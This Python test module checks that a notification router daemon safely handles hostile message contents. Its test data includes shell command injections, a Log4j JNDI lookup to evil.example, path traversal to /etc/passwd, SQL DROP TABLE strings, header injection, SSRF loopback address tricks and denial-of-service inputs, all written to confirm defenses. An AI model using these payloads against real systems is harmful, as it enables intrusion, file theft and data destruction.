"""Rightly signed messages of our own topic whose content is hostile: to templates, commands, files, webhooks, rules."""

import json
import sys
from collections.abc import Awaitable, Callable, Mapping
from pathlib import Path
from typing import Any

from tests.attacks.row import Kind, Row
from tests.attacks.stage import Stage

After = Callable[[Stage, int], Awaitable[None]]

_TAKEN = "200 accepted"
_DONE, _DEAD = 3, 4
_RECORD = (
    "import json, os, sys; "
    "open('{directory}/ran.jsonl', 'a').write("
    "json.dumps([sys.argv[1:], os.environ.get('SPAPI_SELLER_ID')]) + chr(10))"
)
RULES = f"""
[handlers.run]
type = "exec"
command = [{json.dumps(sys.executable)}, "-c", {json.dumps(_RECORD)}, "{{payload.value}}"]
retry = {{ attempts = 1 }}
[handlers.keep]
type = "file"
path = "{{directory}}/files/{{payload.value}}.jsonl"
retry = {{ attempts = 1 }}
[handlers.web]
type = "forward"
url = "{{sink}}hook/{{payload.path|default=none}}"
headers = {{ X-Value = "{{payload.value}}" }}
body = {{ value = "{{payload.value}}", fixed = "x{{payload.value}}y" }}
allow_private = true
secret = {{ env = "WEBHOOK_SECRET" }}
retry = {{ attempts = 1 }}
[handlers.short_address]
type = "forward"
url = "http://127.1:9/"
retry = {{ attempts = 1 }}
[handlers.number_address]
type = "forward"
url = "http://2130706433:9/"
retry = {{ attempts = 1 }}
[handlers.hex_address]
type = "forward"
url = "http://0x7f.1:9/"
retry = {{ attempts = 1 }}
[handlers.told]
type = "log"
[[rules]]
name = "run"
match.payload.do = ["run"]
handlers = ["run"]
[[rules]]
name = "keep"
match.payload.do = ["keep"]
handlers = ["keep"]
[[rules]]
name = "web"
match.payload.do = ["web"]
handlers = ["web"]
key = "{{payload.value}}"
[[rules]]
name = "addresses"
match.payload.do = ["addresses"]
handlers = ["short_address", "number_address", "hex_address"]
[[rules]]
name = "own events"
match.type = ["router.subscription_pending", "ROUTER_SUBSCRIPTION_PENDING_NEVER"]
handlers = ["told"]
[[rules]]
name = "wildcards"
match.payload.text = [{{ wildcard = "*aab*aac" }}]
handlers = ["told"]
"""


def _row(name: str, after: After | None, message: object) -> Row:
    text = message if isinstance(message, str) else json.dumps(message)
    return Row(name, lambda forge: forge.notification(Message=text), _TAKEN, after=after)


def _do(what: str, name: str, value: object, after: After, **more: object) -> Row:
    """A notification that asks for a handler with a value in its payload, which is the seller too."""
    payload = {"do": what, "value": value, "SellerId": value} | more
    return _row(name, after, {"NotificationType": "ATTACK", "Payload": payload})


async def ended(stage: Stage, notification: int, count: int = 1) -> list[Mapping[str, Any]]:
    """The deliveries of a notification, when all have ended."""
    found = await stage.ended(notification)
    assert len(found) == count, f"{len(found)} deliveries, not {count}"
    return found


def _dies(*words: str) -> After:
    """The delivery is dead for a reason in these words, and no command ran, no file came and no request."""

    async def after(stage: Stage, notification: int) -> None:
        ran, kept, arrived = _ran(stage), _files(stage), stage.sink.attempts
        for each in await ended(stage, notification):
            assert each["state"] == _DEAD, f"state {each['state']}: {each['reason']}"
            reason = each["reason"]
            assert all(word in reason for word in words), f"dead for {reason!r}, which does not say {words}"
        assert (_ran(stage), _files(stage), stage.sink.attempts) == (ran, kept, arrived), "it had an effect"

    return after


def _runs_with(argument: str) -> After:
    """The command ran once, with the value as one argument and as a variable, as they are."""

    async def after(stage: Stage, notification: int) -> None:
        (delivery,) = await ended(stage, notification)
        assert delivery["state"] == _DONE, delivery["reason"]
        arguments, seller = _ran(stage)[-1]
        assert arguments == [argument], f"the command got {arguments}"
        assert seller in {argument, None}, f"SPAPI_SELLER_ID was {seller!r}"
        strange = {path.name for path in stage.directory.iterdir()} & {"pwned"}
        assert not strange, f"something made {strange}"

    return after


def _keeps_in(name: str) -> After:
    """The file is that one of the handler's directory, whatever the value."""

    async def after(stage: Stage, notification: int) -> None:
        before = {path.name for path in stage.directory.iterdir()}
        (delivery,) = await ended(stage, notification)
        assert delivery["state"] == _DONE, delivery["reason"]
        assert name in _files(stage), f"{name!r} is not among {_files(stage)}"
        assert {path.name for path in stage.directory.iterdir()} <= before | {"files", "inbox.db-wal", "inbox.db-shm"}

    return after


def _sends(value: str) -> After:
    """The webhook has the value in its header and its body as it is."""

    async def after(stage: Stage, notification: int) -> None:
        (delivery,) = await ended(stage, notification)
        assert delivery["state"] == _DONE, delivery["reason"]
        arrival = stage.sink.arrivals[-1]
        assert arrival.headers["X-Value"] == value, f"the header was {arrival.headers['X-Value']!r}"
        assert json.loads(arrival.body) == {"value": value, "fixed": f"x{value}y"}, arrival.body
        assert delivery["key"] == value, f"the key is {delivery['key']!r}"

    return after


def _goes_to(path: str) -> After:
    """The webhook went to one segment below /hook/."""

    async def after(stage: Stage, notification: int) -> None:
        (delivery,) = await ended(stage, notification)
        assert delivery["state"] == _DONE, delivery["reason"]
        assert stage.sink.arrivals[-1].path == f"/hook/{path}", stage.sink.arrivals[-1].path

    return after


async def _refuses_addresses(stage: Stage, notification: int) -> None:
    for each in await ended(stage, notification, 3):
        assert each["state"] == _DEAD
        assert any(word in each["reason"] for word in ("allow_private", "canonical")), each["reason"]


async def _fires_nothing(stage: Stage, notification: int) -> None:
    await ended(stage, notification, 0)


def _ran(stage: Stage) -> list[Any]:
    record = stage.directory / "ran.jsonl"
    return [json.loads(line) for line in record.read_text().splitlines()] if record.exists() else []


def _files(stage: Stage) -> set[str]:
    folder = Path(stage.directory / "files")
    return {str(path.relative_to(folder)) for path in folder.rglob("*")}


_SYNTAX = (
    ("a field of a template", "{seller_id}"),
    ("a field with a secret's name", "{secret}"),
    ("a filter", "{x|default=y}"),
    ("doubled braces", "{{payload}}"),
    ("a brace alone", "{"),
    ("Jinja", "{{7*7}}{% for x in y %}"),
    ("a shell variable", "${HOME}"),
    ("a format of printf", "%(secret)s%n%s"),
    ("a format of Python", "{0.__class__.__mro__}"),
    ("a lookup of Log4j", "${jndi:ldap://evil.example/a}"),
    ("markup", "<script>alert(1)</script>"),
    ("SQL", "'; DROP TABLE deliveries; --"),
)
_COMMANDS = (
    ("a command in $()", "$(touch pwned)"),
    ("a command in backquotes", "`touch pwned`"),
    ("a second command", "x; touch pwned"),
    ("a pipe", "x | touch pwned"),
    ("a line break and an option", "x\n--help"),
    ("a wildcard", "*"),
    ("a dash that is not ASCII's", "\u2013rf"),
    ("a function for Shellshock", "() { :;}; touch pwned"),
    ("two words", "a b"),
    ("an empty text", ""),
)
_OPTIONS = ("--help", "-rf", "-", "--", "--config=/etc/passwd", "-\u0000", "-c import os")
_DEEP = "[" * 900 + "]" * 900
KIND = Kind(
    "contents",
    "rightly signed messages of our own topic, hostile to templates, commands, files, webhooks and rules",
    (
        *(_do("web", f"{name} in a value", value, _sends(value)) for name, value in _SYNTAX),
        *(_do("run", f"{name} as an argument", value, _runs_with(value)) for name, value in (*_COMMANDS, *_SYNTAX[:3])),
        *(_do("run", f"the option {value!a} as an argument", value, _dies("option")) for value in _OPTIONS),
        _do("run", "a NUL as an argument", "a\0b", _dies("NUL")),
        _do("run", "an argument of 200 kB", "x" * 200_000, _dies("too long")),
        _do("run", "an object as an argument", {"--help": "-x"}, _runs_with('{"--help":"-x"}')),
        _do("run", "no argument", None, _dies("payload.value")),
        _do("keep", "a file name that climbs", "../../etc/passwd", _keeps_in("_._.._etc_passwd.jsonl")),
        _do("keep", "an absolute file name", "/etc/passwd", _keeps_in("_etc_passwd.jsonl")),
        _do("keep", "two dots as a file name", "..", _keeps_in("_..jsonl")),
        _do("keep", "a hidden file's name", ".htaccess", _keeps_in("_htaccess.jsonl")),
        _do("keep", "a NUL in a file name", "a\0/b", _keeps_in("a__b.jsonl")),
        _do("keep", "a line break in a file name", "a\nb", _keeps_in("a_b.jsonl")),
        _do("keep", "a file name of 100 kB", "a" * 100_000, _keeps_in("a" * 100 + ".jsonl")),
        _do("keep", "a backslash in a file name", "..\\a", _keeps_in("_._a.jsonl")),
        _do("web", "a header after a line break", "a\r\nX-Evil: 1", _dies("line break")),
        _do("web", "a NUL in a header", "a\0b", _dies("control character")),
        _do("web", "a path that climbs in a URL", "x", _goes_to("../../admin"), path="../../admin"),
        _do("web", "two dots as a segment of a URL", "x", _dies("another directory"), path=".."),
        _do("web", "a query and a fragment in a URL", "x", _goes_to("a?b=c#d"), path="a?b=c#d"),
        _do(
            "web",
            "another host in a URL",
            "x",
            _goes_to("//evil.example/@evil.example"),
            path="//evil.example/@evil.example",
        ),
        _do("web", "escapes in a URL", "x", _goes_to("%2e%2e%2fadmin"), path="%2e%2e%2fadmin"),
        _row(
            "hosts whose names turn into loopback addresses",
            _refuses_addresses,
            {"NotificationType": "X", "Payload": {"do": "addresses"}},
        ),
        _row(
            "the type of the daemon's own events", _fires_nothing, {"NotificationType": "router.subscription_pending"}
        ),
        _row(
            "the daemon's own events, wrapped",
            _fires_nothing,
            {"detail-type": "x", "detail": {"NotificationType": "router.subscription_pending"}},
        ),
        _row("900 lists in each other", _fires_nothing, _DEEP),
        _row(
            "900 lists in each other in a payload",
            _fires_nothing,
            f'{{"NotificationType": "X", "Payload": {{"do": {_DEEP}}}}}',
        ),
        _row("a hundred thousand brackets", _fires_nothing, "[" * 100_000),
        _row(
            "objects where texts are expected",
            _fires_nothing,
            {"NotificationType": "X", "Payload": {"do": {"run": 1}}, "NotificationMetadata": []},
        ),
        _row(
            "a key twice in the inner message",
            _fires_nothing,
            '{"NotificationType": "X", "Payload": {"do": "run", "do": "nothing"}}',
        ),
        _row(
            "a text that is slow for careless wildcards",
            _fires_nothing,
            {"NotificationType": "X", "Payload": {"text": "aaa" * 60_000}},
        ),
        _row("a type of 100 kB", _fires_nothing, {"NotificationType": "X" * 100_000, "Payload": {}}),
        _row(
            "an id with SQL in it",
            _fires_nothing,
            {"NotificationType": "X", "NotificationMetadata": {"NotificationId": "'; DROP TABLE notifications; --"}},
        ),
        _row(
            "escape characters in a seller's id",
            _fires_nothing,
            {"NotificationType": "X", "Payload": {"SellerId": "\x1b[2J\x1b]0;x\x07\r\nlevel=error"}},
        ),
        _row(
            "lone surrogates by escape in the inner message",
            _fires_nothing,
            '{"NotificationType": "X", "Payload": {"do": "\\ud800"}}',
        ),
        _row("a Message of 250 kB", _fires_nothing, "x" * 250_000),
        _row("an empty Message", _fires_nothing, ""),
    ),
    rules=RULES,
)
